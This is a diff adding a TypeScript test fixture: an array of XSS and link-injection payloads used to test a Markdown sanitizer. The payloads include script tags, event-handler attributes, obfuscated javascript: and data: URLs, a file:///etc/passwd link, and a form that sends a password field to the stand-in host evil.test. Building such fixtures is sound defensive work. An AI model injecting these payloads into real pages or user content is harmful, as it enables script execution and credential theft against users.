@@ -1,0 +1,20 @@
+/** Markdown that tries to become more than text. */
+export const attacks: readonly string[] = [
+  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<iframe srcdoc='<script>alert(1)</script>'>",
+  "<body onload=alert(1)>", "<style>*{display:none}</style>", "<p style=\"position:fixed\" id=main class=alert>x</p>", "<math><mtext></p><img src onerror=alert(1)>",
+  "<!-- --><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "</p></div></main><form action=//evil.test><input name=password>",
+  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)", "[x](&#106;avascript:alert(1))",
+  "[x](&#x6A;&#x61;vascript&colon;alert(1))", "[x](javascript&#58;alert(1))", "[x](java&Tab;script:alert(1))", "[x](\u0001javascript:alert(1))", "[x](%6Aavascript:alert(1))",
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))", "[x](file:///etc/passwd)", "[x](//evil.test)", "[x](/\\evil.test)",
+  "[x](\\\\evil.test)", "[x](/\t/evil.test)", "[x](https:evil.test)", "[x](https:///evil.test)", "[x](http://user:pass@evil.test)", "[x](blob:https://a.test/1)",
+  "[x](javascript://a.test/%0aalert(1))", "[x](ｊavascript:alert(1))", "[x](java\u200bscript:alert(1))", "[x](ftp://a.test)", "[x](tel:5550100)",
+  "[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]", "[x][1]\n\n[1]: <javascript:alert(1)> 'title\" onclick=alert(1)'", "<javascript:alert(1)>", "<data:text/html,x>",
+  "[x](https://a.test/\"onmouseover=alert(1)//)", "[x](https://a.test '\"><script>alert(1)</script>')", "[x](/a\"><script>alert(1)</script>)", "[<b onclick=alert(1)>x](/a)",
+  "[a [b](https://b.test) c](https://c.test)", "[https://a.test](https://b.test)", "[![x](javascript:alert(1))](https://a.test)", "![x](https://a.test/pixel.png)",
+  "![\"onerror=alert(1)](x)", "![<script>alert(1)</script>](x)", "https://a.test/<script>alert(1)</script>", "https://a.test/\"onclick=\"alert(1)", "www.a.test/'onclick='x",
+  "a@b.test\"onclick=x", "`<script>alert(1)</script>`", "``` \"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```", "    <script>alert(1)</script>",
+  "# <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>\n- [ ] <b>x", "> <script>alert(1)</script>", "| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| [x](javascript:1) | c |",
+  "**<script>alert(1)**</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;", "\\<script>alert(1)\\</script>",
+  "\u202e<script>alert(1)</script>", "＜script＞alert(1)", "<script\u2028>alert(1)</script>", "<a href=\"javascript:alert(1)\">x</a>", "<ſcript>alert(1)</ſcript>", "**[x](**https://a.test)",
+];
